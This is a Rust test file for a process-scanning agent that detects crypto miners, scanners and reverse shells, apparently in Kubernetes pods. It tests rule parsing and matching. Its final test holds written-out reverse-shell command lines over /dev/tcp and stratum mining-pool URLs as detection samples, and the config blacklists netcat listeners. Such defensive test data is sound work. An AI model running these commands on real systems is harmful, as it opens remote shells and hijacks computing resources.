use super::*;

const FILE: &str = r#"
scanner: {proc_path: /host/proc, scan_interval: 100s}
actions: {label: {enabled: false}}
detectionRules:
  blacklist:
    processes: ["^miner$", scan]
    keywords: ['stratum\+tcp://']
  whitelist:
    processes: [^goodscan$]
    commands: [--dry-run]
    namespaces: [^kube-]
    podNames: ['^debug-']
"#;

/// The `ConfigMap` with the rules file of the real agent, shortened.
const SHIPPED: &str = r#"apiVersion: v1
kind: ConfigMap
metadata:
  name: block-procscan-config
  namespace: block-system
data:
  config.yaml: |
    scanner:
      proc_path: "/host/proc"
      scan_interval: "100s"
    notifications:
      lark:
        webhook: ""
    detectionRules:
      blacklist:
        processes:
          - "^miner$"
          - "^nc.*-l.*-p"
        keywords:
          - "stratum+tcp"
          - "pool."
        commands: []
        namespaces: []
        podNames: []
      whitelist:
        processes:
          - "^bash$"
        keywords: []
        commands:
          - "apt-get"

        namespaces:
          - "^kube-system$"
        podNames:
          - "^coredns-.*"
  unrelated.json: '{"a": ['
"#;

fn judge(rules: &Rules, name: &str, cmdline: &str) -> Option<String> {
    rules.judge(&[name.to_owned()], cmdline).map(|hit| hit.regex)
}

fn named(rules: &Rules, names: &[&str]) -> Option<usize> {
    let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
    rules.judge(&names, "").and_then(|hit| hit.name)
}

fn refused(rules: &Rules) -> Vec<String> {
    rules.refused().iter().map(ToString::to_string).collect()
}

fn error(text: &str) -> String {
    Rules::from_yaml(text).unwrap_err().to_string()
}

#[test]
fn names_and_command_lines_are_matched_unanchored() {
    let rules = Rules::from_yaml(FILE).unwrap();
    let hit = |regex: &str| Some(regex.to_owned());
    assert_eq!(judge(&rules, "miner", "/bin/miner"), hit("^miner$"));
    assert_eq!(judge(&rules, "portscanner", "portscanner 10.0.0.0/8"), hit("scan"));
    assert_eq!(judge(&rules, "a", "a -o stratum+tcp://b"), hit(""));
    assert_eq!(judge(&rules, "miner", "miner -o stratum+tcp://b"), hit("^miner$"), "names come first");
    assert_eq!(judge(&rules, "bash", "bash -c miner"), None, "a name rule does not read the arguments");
    let keyword = rules.judge(&["a".to_owned()], "a -o stratum+tcp://b").unwrap();
    assert_eq!((keyword.name, keyword.at), (None, 5));
}

#[test]
fn any_exemption_is_enough() {
    let rules = Rules::from_yaml(FILE).unwrap();
    assert_eq!(judge(&rules, "goodscan", "goodscan"), None);
    assert_eq!(judge(&rules, "goodscan", "goodscan stratum+tcp://"), None);
    assert_eq!(judge(&rules, "miner", "miner --dry-run"), None);
    assert!(rules.exempts_pod("kube-system", "x"));
    assert!(rules.exempts_pod("ns-a", "debug-1"));
    assert!(!rules.exempts_pod("ns-a", "web-debug-1"));
}

#[test]
fn any_of_several_names_is_judged_and_exempts_itself_only() {
    let rules = Rules::from_yaml(FILE).unwrap();
    assert_eq!(named(&rules, &["java", "miner"]), Some(1));
    assert_eq!(named(&rules, &["scan-1", "miner"]), Some(0));
    assert_eq!(named(&rules, &["goodscan", "miner"]), Some(1));
    assert_eq!(named(&rules, &["goodscan", "java"]), None);
    let names = ["goodscan".to_owned(), "java".to_owned()];
    assert_eq!(rules.judge(&names, "stratum+tcp://"), None, "a keyword is exempt by any name");
}

#[test]
fn a_file_with_an_exemption_that_can_not_be_used_is_refused_by_its_name() {
    for list in ["processes", "commands", "namespaces", "podNames"] {
        let text = format!(
            "detectionRules: {{blacklist: {{processes: [a]}}, whitelist: {{{list}: ['^fine$', '\\p{{Alphabetic}}']}}}}"
        );
        let error = Rules::from_yaml(&text).unwrap_err().to_string();
        assert!(error.starts_with(&format!("detectionRules.whitelist.{list}[1]: ")), "{error}");
        assert!(error.contains("would be accused"), "{error}");
        // An empty pattern would exempt every process.
        let error = Rules::from_yaml(&text.replace(r"\p{Alphabetic}", "")).unwrap_err().to_string();
        assert!(
            error.starts_with(&format!("detectionRules.whitelist.{list}[1]: an empty pattern")),
            "{error}"
        );
    }
}

#[test]
fn bare_keys_are_empty_lists() {
    let rules = Rules::from_yaml("detectionRules: {blacklist: {processes: }, whitelist: }").unwrap();
    assert_eq!(judge(&rules, "xmrig", "xmrig"), None);
}

#[test]
fn the_file_of_the_real_agent_loads_unchanged_from_its_config_map_or_alone() {
    let file = SHIPPED.split("config.yaml: |\n").nth(1).unwrap().split("  unrelated").next().unwrap();
    let several = format!("apiVersion: v1\nkind: Secret\ndata: {{a: b}}\n---\n{SHIPPED}---\n");
    for text in [SHIPPED, file, several.as_str()] {
        let rules = Rules::from_yaml(text).unwrap();
        assert_eq!(refused(&rules), [""; 0]);
        assert_eq!(judge(&rules, "miner", "miner").as_deref(), Some("^miner$"));
        assert_eq!(judge(&rules, "x", "x --url poolside").as_deref(), Some(""));
        assert_eq!(judge(&rules, "x", "apt-get install poolside"), None);
        assert!(rules.exempts_pod("kube-system", "x") && rules.exempts_pod("ns-a", "coredns-1"));
    }
}

#[test]
fn lists_that_the_agents_do_not_read_have_no_effect_and_are_named() {
    let rules = Rules::from_yaml(
        "detectionRules:\n  blacklist: {keywords: [bad], commands: [a, b], podNames: [c]}\n  whitelist: {keywords: [bad]}",
    )
    .unwrap();
    assert_eq!(judge(&rules, "a", "bad").as_deref(), Some(""));
    assert!(judge(&rules, "a", "a b").is_none() && !rules.exempts_pod("ns-a", "c"));
    let expected = [
        "detectionRules.blacklist.commands: agents do not read this list; the number of its patterns without effect is 2",
        "detectionRules.blacklist.podNames: agents do not read this list; the number of its patterns without effect is 1",
        "detectionRules.whitelist.keywords: agents do not read this list; the number of its patterns without effect is 1",
    ];
    assert_eq!(refused(&rules), expected);
}

#[test]
fn a_pattern_that_can_not_be_used_is_named_and_the_others_are_in_force() {
    let rules = Rules::from_yaml(
        r"detectionRules: {blacklist: {processes: ['a**', '^x{$'], keywords: [fine, 'open(']}, whitelist: {namespaces: [ns-a]}}",
    )
    .unwrap();
    assert_eq!(judge(&rules, "x{", "").as_deref(), Some("^x{$"), "Go accepts this pattern");
    assert_eq!(judge(&rules, "a", "fine").as_deref(), Some(""));
    assert!(!rules.exempts_pod("ns-b", "x"));
    let refused = refused(&rules);
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert!(
        refused[0].starts_with("detectionRules.blacklist.processes[0]: `a**` is not a"),
        "{}",
        refused[0]
    );
    assert!(
        refused[1].starts_with("detectionRules.blacklist.keywords[1]: `open(` is not a"),
        "{}",
        refused[1]
    );
}

#[test]
fn entries_that_look_like_numbers_are_text() {
    let rules = Rules::from_yaml("detectionRules: {blacklist: {processes: [3333, true, 1.50]}}").unwrap();
    for name in ["3333", "true", "1.50"] {
        assert_eq!(judge(&rules, name, "").as_deref(), Some(name));
    }
}

#[test]
fn errors_name_the_place() {
    let misspelt = error("detectionRules:\n  blacklist:\n    procesess: [x]");
    assert!(misspelt.contains("procesess") && misspelt.contains("line 3"), "{misspelt}");
    assert!(error("scanner: {}").contains("`detectionRules`"));
    assert!(error("kind: ConfigMap\ndata: {a: b}").contains("no section `detectionRules`"));
    assert!(error("detectionRules: [").starts_with("cannot read the rules"));
    let inside = error("kind: ConfigMap\ndata:\n  r.yaml: |\n    detectionRules: {blocklist: }");
    assert!(
        inside.starts_with("data[r.yaml]: cannot read the rules: ") && inside.contains("blocklist"),
        "{inside}"
    );
    let rules = "detectionRules: {blacklist: {processes: [a]}}";
    let two = error(&format!("kind: ConfigMap\ndata: {{a: '{rules}', b: '{rules}'}}"));
    assert_eq!(two, "the file has 2 sections `detectionRules`; one is allowed");
    let none = error("detectionRules: {blacklist: {processes: ['(']}}");
    assert!(
        none.starts_with(
            "no pattern of the blacklist can be used; the first: detectionRules.blacklist.processes[0]: `(`"
        ),
        "{none}"
    );
}

#[test]
fn the_built_in_rules_hit_offenders_and_no_other_process() {
    let rules = Rules::default();
    for guilty in ["xmrig", "minerd", "masscan", "zmap"] {
        assert_eq!(judge(&rules, guilty, guilty), Some(format!("^{guilty}$")));
    }
    for guilty in [
        "./a -o stratum+tcp://pool.example.com:3333 -u 4Ad",
        "node --url=stratum+ssl://pool.example.com",
        "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "/bin/sh -i 2>&1 >/dev/tcp/192.0.2.1/4444",
    ] {
        assert_eq!(judge(&rules, "x", guilty).as_deref(), Some(""), "{guilty}");
    }
    for innocent in [
        "procscan agent --simulate 4",
        "cargo test -p procscan-agent xmrig",
        "vim xmrig.md",
        "grep -rn stratum+tcp:// src",
        "grep -e bash -i >& /dev/tcp/1.2.3.4/5",
        "bash -i",
    ] {
        let name = innocent.split_whitespace().next().unwrap();
        assert_eq!(judge(&rules, name, innocent), None, "{innocent}");
    }
}
